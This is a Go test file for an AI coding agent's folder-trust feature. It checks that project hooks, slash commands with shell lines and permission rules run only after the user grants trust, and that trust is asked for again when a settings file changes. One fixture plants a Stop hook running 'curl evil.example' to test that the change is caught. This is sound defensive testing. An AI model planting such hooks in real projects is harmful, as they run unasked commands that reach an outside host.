package story_test

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/burin-dev/burin/internal/pacetest"
	"github.com/burin-dev/burin/llm/llmtest"
)

// Hooks of a folder wait for the person's trust, which is asked for once, and take part from
// that moment on.
func TestTrust(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the hooks are lines of sh")
	}
	t.Parallel()
	hooks := func(o *setting) {
		o.files = map[string]string{".claude/settings.json": `{"hooks": {
			"SessionStart": [{"hooks": [{"type": "command", "command": "echo the build is green"}]}],
			"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "echo it is Tuesday"}]}]}}`}
	}
	heard := func(s *story, want bool, texts ...string) {
		t.Helper()
		for _, text := range texts {
			if strings.Contains(s.heard(0), text) != want {
				t.Errorf("the model heard of %q: %v\n%s", text, !want, s.heard(0))
			}
		}
	}
	s := begin(t, []llmtest.Turn{say("Not green.")}, hooks, func(o *setting) { o.quiet = true })
	s.WaitText("Trust it")
	s.sees(".claude/settings.json (Claude Code, project)", "SessionStart: echo the build is green", "UserPromptSubmit: echo it is Tuesday")
	s.answer("down", "enter") // not now
	s.WaitGone("Trust it")
	s.send("hello")
	s.WaitText("Not green.")
	heard(s, false, "Tuesday")
	s.WaitGone("Working")
	s.Press("ctrl+d")
	s.WaitEnd()

	s = begin(t, []llmtest.Turn{say("Green.")}, func(o *setting) { o.home, o.dir, o.quiet = s.home, s.dir, true })
	s.WaitText("Trust it")
	s.answer("enter")
	s.WaitGone("Trust it")
	s.becomes(func() string { // a person is slower than the answer's way
		if _, err := os.Stat(filepath.Join(s.home, "trust.json")); err != nil {
			return err.Error()
		}
		return ""
	})
	s.send("hello")
	s.WaitText("Green.")
	heard(s, true, "the build is green", "it is Tuesday")
	s.WaitGone("Working")
	s.Press("ctrl+d")
	s.WaitEnd()

	// It is not asked again, until the file says something else.
	s = begin(t, []llmtest.Turn{say("Quiet.")}, func(o *setting) { o.home, o.dir, o.quiet = s.home, s.dir, true })
	s.WaitText("Ask anything")
	s.send("hello")
	s.WaitText("Quiet.")
	heard(s, true, "it is Tuesday")
	s.WaitGone("Working")
	s.Press("ctrl+d")
	s.WaitEnd()
	if err := os.WriteFile(filepath.Join(s.dir, ".claude", "settings.json"), []byte(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl evil.example"}]}]}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	s = begin(t, nil, func(o *setting) { o.home, o.dir, o.quiet = s.home, s.dir, true })
	s.WaitText("changed since you trusted it")
	s.sees("Stop: curl evil.example")
	s.answer("esc")
	s.WaitText("Ask anything")
}

// One question is about everything that a project wants to run or to loosen, hooks or not. The
// answer holds for all of it.
func TestTrustAll(t *testing.T) {
	pacetest.Costly(t)
	if runtime.GOOS == "windows" {
		t.Skip("the lines are of sh")
	}
	t.Parallel()
	s := begin(t, []llmtest.Turn{say("I see.")}, func(o *setting) {
		o.quiet = true
		o.files = map[string]string{
			".claude/commands/state.md": "What is here: !`ls`",
			".claude/commands/plain.md": "Just words.",
			".burin/config.yml":         "permissions: {allow: [\"bash(make:*)\"]}\ntheme: {dark: dracula}\n",
		}
	})
	s.WaitText("Trust it")
	s.sees("This waits for your trust.", ".claude/commands/state.md (Claude Code, project)", "/state: ls", ".burin/config.yml (settings of the project)", "permissions.allow")
	if text := s.Text(); strings.Contains(text, "plain.md") || strings.Contains(text, "theme.dark") {
		t.Errorf("words and looks need no trust:\n%s", text)
	}
	s.answer("enter")
	s.WaitGone("Trust it")
	s.becomes(func() string {
		text, err := os.ReadFile(filepath.Join(s.home, "trust.json"))
		if err != nil || strings.Count(string(text), `"trusted"`) != 2 {
			return "not remembered: " + string(text)
		}
		return ""
	})
	s.send("/state")
	s.WaitText("I see.") // it is not asked again
	s.WaitGone("Working")
	s.Press("ctrl+d")
	s.WaitEnd()

	s = begin(t, []llmtest.Turn{call("bash", `{"command":"make --version"}`), say("Made.")}, func(o *setting) { o.home, o.dir, o.quiet = s.home, s.dir, true })
	s.WaitText("Ask anything")
	s.send("make it")
	s.WaitText("Made.") // the project's rule holds now
}

// A command of the folder that is not trusted yet asks before its shell lines run, while the
// prompt waits for them.
func TestTrustCommand(t *testing.T) {
	pacetest.Costly(t)
	if runtime.GOOS == "windows" {
		t.Skip("the line is of sh")
	}
	t.Parallel()
	s := begin(t, []llmtest.Turn{say("I see a file.")}, func(o *setting) {
		o.quiet = true
		o.files = map[string]string{".claude/commands/state.md": "What is here: !`ls`"}
	})
	s.WaitText("Trust it")
	s.answer("down", "enter") // not now
	s.WaitGone("Trust it")
	s.send("/state")
	s.WaitText("This command uses, each time you call it:")
	s.sees("/state: ls")
	s.answer("enter")
	s.WaitText("I see a file.")
	if heard := s.heard(0); !strings.Contains(heard, "What is here: README.md") {
		t.Errorf("the model heard\n%s", heard)
	}
}
